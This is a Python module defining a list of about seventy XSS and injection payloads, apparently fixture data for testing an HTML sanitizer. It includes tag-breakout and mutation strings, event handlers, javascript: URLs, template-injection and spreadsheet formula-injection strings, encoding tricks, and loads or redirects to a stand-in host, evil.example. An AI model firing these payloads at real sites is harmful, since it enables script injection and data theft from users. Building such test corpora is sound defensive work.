"""Texts that try to become more than text, by what they break out of or are taken for."""

PAYLOADS = r"""
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script type=module>import("//evil.example/x.js")</script>
<script>/*-->*/alert(1)//</script>
<img src=x onerror=alert(1)>
<img src=//evil.example/x.png>
<image src=x onerror=alert(1)>
<img srcset="//evil.example/a 1x" alt=`x`onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><svg/onload=alert(1)>
`><svg onload=alert(1)>
" autofocus onfocus=alert(1) x="
' autofocus onfocus='alert(1)
" onmouseover="alert(1)" style="position:fixed;inset:0" x="
x onpointerenter=alert(1) x=
</option></select><img src=x onerror=alert(1)>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><img src=x onerror=alert(1)>
</template><img src=x onerror=alert(1)>
</pre></code></td></tr></table><iframe src=//evil.example></iframe>
--><script>alert(1)</script><!--
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="//evil.example/x.css"?>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="//evil.example/x.svg#a"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=20>press</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">
<math href="javascript:alert(1)">press</math>
<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example/x>
<style>@import "//evil.example/x.css"; * { background: url(//evil.example/x) }</style>
<p style="background:url(//evil.example/x);position:fixed;inset:0">
<form action=//evil.example><button>press</button>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video autoplay><source onerror=alert(1)></video>
<audio src=//evil.example/x autoplay onloadstart=alert(1)>
<marquee onstart=alert(1)>
<body onload=alert(1)>
<dialog open onclose=alert(1)><a href="javascript:alert(1)">press</a></dialog>
<a href="javascript:alert(1)" ping="//evil.example">press</a>
javascript:alert(1)
JaVaScRiPt&colon;alert(1)
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
//evil.example/path
/\evil.example
{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{{ constructor.constructor("alert(1)")() }}${alert(1)}#{alert(1)}<%= alert(1) %>
[press](javascript:alert(1)) ![x](//evil.example/x.png) <javascript:alert(1)>
=HYPERLINK("//evil.example","press")
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;
\u003cscript\u003ealert(1)\u003c/script\u003e \x3cimg src=x onerror=alert(1)\x3e %3Cscript%3Ealert(1)%3C/script%3E
﹤script﹥alert(1)﹤/script﹥ ＜img src=x onerror=alert(1)＞
""".strip().splitlines()
PAYLOADS += [
    "\u202e<script>alert(1)</script>\u202c",
    "<\u200bscript>alert(1)</\u200bscript>",
    "<img\u000csrc=x\u000conerror=alert(1)>",
    "<svg\u2028onload=alert(1)>\u2029",
    "\u017fcript:<\u017fcript>alert(1)</\u017fcript>",
    "jav\tascript:alert(1)",
    "<img src=x\nonerror\n=\nalert(1)>",
]
